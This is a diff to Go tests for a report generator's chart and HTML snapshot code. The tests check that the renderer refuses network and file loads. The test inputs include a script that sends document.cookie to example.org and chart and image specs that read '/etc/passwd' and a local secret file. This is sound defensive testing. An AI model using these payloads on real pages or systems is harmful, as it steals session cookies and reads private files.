@@ -13,6 +13,52 @@ import (
 	"github.com/flowbook/flowbook/reportgen/internal/snapshot"
 )
 
+// TestVega checks that vl-convert draws charts if the packages have it, except those that
+// would load data.
+func TestVega(t *testing.T) {
+	prefix := t.TempDir()
+	folder := filepath.Join(prefix, "lib", "python3.13", "site-packages")
+	for name, content := range map[string]string{
+		"lib/python3.13/site-packages/vl_convert/__init__.py": "",
+		"bin/python3": "#!/bin/sh\nread spec\ncase $spec in *broken*) echo no such mark >&2; exit 1;; esac\necho \"<svg><!-- $# $1 $spec --></svg>\"\n",
+	} {
+		file := filepath.Join(prefix, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(file, []byte(content+"\n"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	b := snapshot.New([]string{t.TempDir(), folder})
+	defer func() {
+		if err := b.Close(); err != nil {
+			t.Error(err)
+		}
+	}()
+	if picture, err := b.Vega(map[string]any{"mark": "bar"}); err != nil || picture.SVG != "<svg><!-- 3 -I {\"mark\":\"bar\"} --></svg>\n" {
+		t.Errorf("drew %+v, %v", picture, err)
+	}
+	if _, err := b.Vega(map[string]any{"mark": "broken"}); err == nil || !strings.HasSuffix(err.Error(), "no such mark") {
+		t.Errorf("a chart that vl-convert refuses: %v", err)
+	}
+	if _, err := browser.Find(); err != nil {
+		t.Skipf("nothing else is drawn: %v", err)
+	}
+	_, err := b.Vega(map[string]any{"layer": []any{map[string]any{"data": map[string]any{"url": "file:///etc/passwd"}}}})
+	if missing, ok := errors.AsType[*snapshot.MissingError](err); !ok || len(missing.Addresses) != 3 {
+		t.Errorf("a chart of a file: %v", err)
+	}
+}
+
+// TestMissing checks that an error names three missing files and counts the others.
+func TestMissing(t *testing.T) {
+	err := &snapshot.MissingError{Addresses: []string{"a", "b", "c", "d", "e"}}
+	if got := err.Error(); got != "needs a, b, c and 2 more, which no installed package has" {
+		t.Errorf("got %q", got)
+	}
+}
+
 // packages returns a folder of packages with a small script in place of Plotly's.
 func packages(t *testing.T) string {
 	t.Helper()
@@ -81,7 +127,10 @@ func TestHTML(t *testing.T) {
 	if err := os.WriteFile(secret, []byte("<svg/>"), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	for _, body := range []string{`<script src="https://example.org/x.js"></script>`, `<img src="file://` + secret + `">`, `<script>fetch("https://example.org/?" + document.cookie)</script>`} {
+	if picture, err := b.HTML(`text<img src="file://` + secret + `">`); err != nil || picture.Missing != "file://"+secret {
+		t.Errorf("a picture of the machine: %+v, %v", picture, err)
+	}
+	for _, body := range []string{`<script src="https://example.org/x.js"></script>`, `<script>fetch("https://example.org/?" + document.cookie)</script>`} {
 		_, err := b.HTML("text" + body)
 		if missing, ok := errors.AsType[*snapshot.MissingError](err); !ok || len(missing.Addresses) != 1 {
 			t.Errorf("%s: %v", body, err)
